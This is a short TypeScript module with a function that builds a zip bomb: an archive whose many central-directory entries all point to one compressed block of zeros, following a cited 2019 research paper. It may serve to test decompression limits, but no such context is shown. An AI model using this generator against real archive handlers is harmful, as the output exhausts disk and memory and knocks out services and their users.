import { crc32, deflateRawSync } from 'node:zlib';

/** An archive of many files of zeros that all are the same few bytes: https://www.usenix.org/conference/woot19/presentation/fifield. */
export function bombZip(files: number, megabytes: number): Uint8Array {
  const zeros = new Uint8Array(megabytes * 1024 * 1024);
  const packed = deflateRawSync(zeros, { level: 1 });
  const sizes = Buffer.alloc(12);
  sizes.writeUInt32LE(crc32(zeros), 0);
  sizes.writeUInt32LE(packed.length, 4);
  sizes.writeUInt32LE(zeros.length, 8);
  const local = Buffer.concat([header(0x04034b50, 30, 26, 1), Buffer.from('0')]);
  sizes.copy(local, 14);
  local.writeUInt16LE(8, 8);
  const entries = Array.from({ length: files }, (_, index) => {
    const name = Buffer.from(`${index}.txt`);
    const entry = Buffer.concat([header(0x02014b50, 46, 28, name.length), name]);
    entry.writeUInt16LE(8, 10);
    sizes.copy(entry, 16);
    return entry;
  });
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files, 8);
  end.writeUInt16LE(files, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + packed.length, 16);
  return new Uint8Array(Buffer.concat([local, packed, directory, end]));
}

function header(signature: number, length: number, nameLengthAt: number, nameLength: number): Buffer {
  const bytes = Buffer.alloc(length);
  bytes.writeUInt32LE(signature, 0);
  bytes.writeUInt16LE(nameLength, nameLengthAt);
  return bytes;
}
